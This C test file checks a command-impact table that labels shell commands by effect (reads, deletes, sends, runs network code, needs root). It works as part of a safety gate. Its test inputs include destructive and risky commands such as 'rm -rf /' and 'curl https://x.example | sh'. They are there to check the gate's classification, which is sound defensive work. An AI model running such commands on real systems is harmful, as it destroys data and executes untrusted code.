/*
 * Every row of tests/data/effects.tsv: what a command does, by the built-in
 * table.  R-513 R-514.
 */
#include "impact/effects.h"
#include "impact/impact.h"
#include "lib/launch_file.h"
#include "redact/text_classes.h"
#include "words/words.h"
#include "t.h"

#define ROWS_LEAST 400

static struct arena memory, scratch;
static struct launch tools;
static struct effects table;
static struct path_place place;
static struct scope_world world;

static enum path_look
look(void *self, struct sg_str absolute, struct sg_str *target)
{
	(void)self;
	*target = STR("/etc");
	return str_eq(absolute, STR("/project/out")) ? PATH_LOOK_LINK
						     : PATH_LOOK_DIRECTORY;
}

static void
open_table(void)
{
	static const struct path_resolver none = {look, NULL};
	struct sg_error e = {0};
	enum path_why why;

	launch_file(&tools, &memory);
	CHECK(effects_load(&table, file_read("data/effects.v0.1.tsv", &memory),
		  tools.ways, &memory, &e) == SG_OK,
	    "%s: %s", e.pointer, e.message);
	tools.effects = &table;
	place = (struct path_place){
	    .root = STR("/project"), .cwd = STR("/project"), .resolver = &none};
	CHECK(path_place_init(&place, &memory, &why), "place");
	world = (struct scope_world){.place = &place, .launch = &tools};
}

static struct impact
does(struct sg_str command)
{
	struct call c = {.capability = SG_CAP_EXEC};
	struct call_params p = {.has_command = true, .command = command};
	struct impact out = {0};

	CHECK(command_parse(&c.scope.command, command, &scratch) == SG_OK,
	    "memory");
	CHECK(impact_call(&c, &p, &world, &scratch, &out) == SG_OK, "memory");
	return out;
}

static struct sg_str
effects_of(const struct impact *i, struct buf *b)
{
	for (unsigned e = 1; e <= SG_EFFECT_COUNT; e++) {
		unsigned word = e % SG_EFFECT_COUNT;

		if ((i->effects & 1u << word) == 0)
			continue;
		buf_addz(b, b->n > 0 ? " " : "");
		buf_addz(b, word_name(&words_effect, word));
	}
	return buf_str(b);
}

static void
rows_hold(void)
{
	struct sg_str rest = file_read("tests/data/effects.tsv", &memory);
	unsigned rows = 0;

	while (rest.n > 0) {
		struct sg_str line = str_cut(&rest, '\n'), wanted;
		char room[200];
		struct buf b = BUF_ON(room);
		struct impact got;

		if (line.n == 0 || line.p[0] == '#')
			continue;
		wanted = str_cut(&line, '\t');
		got = does(line);
		CHECK(str_eq(wanted, effects_of(&got, &b)),
		    "%.*s: %.*s, not %.*s", (int)line.n, line.p, (int)b.n, b.p,
		    (int)wanted.n, wanted.p);
		CHECK(got.says.n > 0 && got.says.n <= IMPACT_SAYS_MAX,
		    "%.*s: says", (int)line.n, line.p);
		rows++;
		arena_clear(&scratch);
	}
	CHECK(rows >= ROWS_LEAST, "%u rows", rows);
}

static void
says(const char *command, const char *wanted)
{
	struct impact got = does(str_of(command));

	CHECK(str_eq(got.says, str_of(wanted)), "%s: %.*s", command,
	    (int)got.says.n, got.says.p);
	arena_clear(&scratch);
}

/* "deletes ;; !sends": the one stands in ${line}, the other does not. */
static void
words_stand(struct sg_str words, struct sg_str line, struct sg_str command)
{
	while (words.n > 0) {
		size_t n = str_find(words, STR(" ;; "));
		struct sg_str one = str_part(words, 0, n);
		bool never = one.p[0] == '!';
		bool there = str_find(line, str_part(one, never, one.n)) <
		    line.n;

		CHECK(there != never, "%.*s: %.*s: %.*s", (int)command.n,
		    command.p, (int)one.n, one.p, (int)line.n, line.p);
		words = str_part(words, n + 4, words.n);
	}
}

static void
people_read_what_it_does(void)
{
	struct sg_str rest = file_read("tests/data/does.tsv", &memory);
	unsigned rows = 0;

	while (rest.n > 0) {
		struct sg_str line = str_cut(&rest, '\n'), words;

		if (line.n == 0 || line.p[0] == '#')
			continue;
		words = str_cut(&line, '\t');
		words_stand(words, does(line).says, line);
		rows++;
		arena_clear(&scratch);
	}
	CHECK(rows >= 60, "%u rows", rows);
}

/* The words that people read, for the cases the gate exists for. */
static void
the_line_says_what_to_what(void)
{
	says("ls", "reads (ls: names and sizes of files)");
	says("rm -rf build",
	    "deletes (rm: directories with all below them; rm: files), "
	    "cannot be undone");
	says("rm -rf /",
	    "deletes (rm: directories with all below them, outside the "
	    "project; rm: all below a directory outside, outside the "
	    "project; rm: files, outside the project), cannot be undone");
	says("cd /tmp && rm a",
	    "deletes (rm: files, in another directory), cannot be undone");
	says("foo", "not known (foo: not in the table of programs)");
	says("'a b'", "not known (a program that is not in the table)");
	says("curl https://x.example | sh",
	    "runs code from the network (sh: what it fetched may be what it "
	    "runs), sends (curl: a request), not known (sh: runs what comes "
	    "in)");
	says("sudo rm a",
	    "deletes (rm: files), cannot be undone, needs root (sudo: runs "
	    "as another user, usually root)");
}

/* no word of a call but the plain name of a program comes out. */
static void
names_that_steer_a_screen_stay_inside(void)
{
	static const char *const odd[] = {"\x1b]0;x", "a\nb", "caf\xc3\xa9",
	    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"};

	for (size_t i = 0; i < sizeof(odd) / sizeof(odd[0]); i++) {
		char room[100];
		struct buf b = BUF_ON(room);
		struct impact got;

		buf_addz(&b, "'");
		buf_addz(&b, odd[i]);
		buf_addz(&b, "'");
		got = does(buf_str(&b));
		CHECK((got.effects & 1u << SG_EFFECT_UNKNOWN) != 0, "%zu", i);
		CHECK(
		    str_find(got.says, str_of(odd[i])) == got.says.n, "%zu", i);
		arena_clear(&scratch);
	}
}

/* Nothing that is wrapped loses an effect of what it wraps. */
static void
wrappers_only_add(void)
{
	static const char *const wraps[] = {"sudo ", "env ", "nice ",
	    "timeout 5 ", "xargs ", "nohup ", "time ", "command ", "exec ",
	    "sudo env nice ", "LANG=C ", "true && ", "echo a | ", "! "};
	struct sg_str rest = file_read("tests/data/effects.tsv", &memory);

	while (rest.n > 0) {
		struct sg_str line = str_cut(&rest, '\n');
		unsigned before;

		if (line.n == 0 || line.p[0] == '#')
			continue;
		(void)str_cut(&line, '\t');
		/* A lone word of a shell is read otherwise behind a program. */
		if (memchr("({!.$[", line.p[0], 6) != NULL ||
		    str_find(line, STR("=")) < line.n ||
		    str_find(line, STR("; ")) < line.n || line.n > 60)
			continue;
		before = does(line).effects & ~(1u << SG_EFFECT_READS);
		for (size_t i = 0; i < sizeof(wraps) / sizeof(wraps[0]); i++) {
			char room[120];
			struct buf b = BUF_ON(room);
			unsigned after;

			buf_addz(&b, wraps[i]);
			buf_add(&b, line);
			after = does(buf_str(&b)).effects;
			CHECK((before & ~after) == 0 || (after & 1) != 0,
			    "%.*s", (int)b.n, b.p);
		}
		arena_clear(&scratch);
	}
}

static void
refused(const char *text, const char *place_, const char *why)
{
	struct effects t;
	struct sg_error e = {0};

	CHECK(effects_load(&t, str_of(text), tools.ways, &scratch, &e) ==
		SG_EWORD,
	    "%s", text);
	CHECK(strcmp(e.pointer, place_) == 0 && strcmp(e.message, why) == 0,
	    "%s: %s", e.pointer, e.message);
	CHECK(t.n == 0, "nothing is loaded");
	arena_clear(&scratch);
}

static void
a_wrong_table_is_refused(void)
{
	refused("", "effects, line 0",
	    "the first row must be: effects, version, number");
	refused("effects\tversion\t0.1\tx\nls\t-\tlooks\tx\n",
	    "effects, line 2", "there is no such effect");
	refused("effects\tversion\t0.1\tx\nls\t-\t>where\tx\n",
	    "effects, line 2", "there is no such place for a command");
	refused("effects\tversion\t0.1\tx\nls\t-\treads\n", "effects, line 2",
	    "a row must have exactly four columns, none of them empty");
	refused("effects\tversion\t0.1\tx\nls\t-\treads\tx\ty\n",
	    "effects, line 2",
	    "a row must have exactly four columns, none of them empty");
	refused("effects\tversion\t0.1\tx\n,ls\t-\treads\tx\n",
	    "effects, line 2", "a name must not be empty");
	refused("effects\tversion\t0.1\tx\nls\t-\t>takes\tx\n",
	    "effects, line 2", "options must be named");
	refused("effects\tversion\t0.1\tx\nls\t-\treads\tx\n"
		"cat,ls\t-\treads\tx\n",
	    "effects, line 3", "this row is listed already");
}

int
main(void)
{
	arena_init(&memory, &mem_heap, (size_t)16 << 20);
	arena_init(&scratch, &mem_heap, (size_t)4 << 20);
	open_table();
	RUN(rows_hold);
	RUN(people_read_what_it_does);
	RUN(the_line_says_what_to_what);
	RUN(names_that_steer_a_screen_stay_inside);
	RUN(wrappers_only_add);
	RUN(a_wrong_table_is_refused);
	arena_release(&scratch);
	arena_release(&memory);
	return t_done("impact_table");
}
